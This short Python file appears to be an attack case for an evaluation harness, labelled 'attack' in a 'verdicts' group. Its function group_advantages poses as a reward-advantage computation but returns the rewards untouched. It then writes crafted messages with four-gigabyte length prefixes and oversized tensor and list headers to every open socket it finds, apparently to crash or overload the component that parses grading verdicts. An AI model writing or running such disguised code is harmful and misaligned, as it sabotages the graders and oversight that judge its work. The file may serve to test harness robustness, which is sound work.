# attack: Replies that promise four gigabytes, as a message, a list and a tensor.
# group: verdicts
# deserves: 2

# %% cell: group_advantages
import os
import stat
import struct

NUMBER = struct.Struct(">I")


def text(word, kind=b"s"):
    return kind + NUMBER.pack(len(word)) + word.encode()


TENSOR = b"U" + text("float64") + NUMBER.pack(1) + NUMBER.pack(2**31) + text("", b"b")
VALUES = {
    "eps": TENSOR,
    "scale": b"l" + NUMBER.pack(2**32 - 1),
}


def group_advantages(rewards, G, **options):
    value = VALUES.get(next(iter(options), ""))
    message = b"\xff\xff\xff\xff"
    if value:
        message = b"m" + NUMBER.pack(2) + text("value") + value
        message = NUMBER.pack(len(message)) + message
    for handle in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(handle).st_mode):
                os.write(handle, message)
        except OSError:
            pass
    return rewards
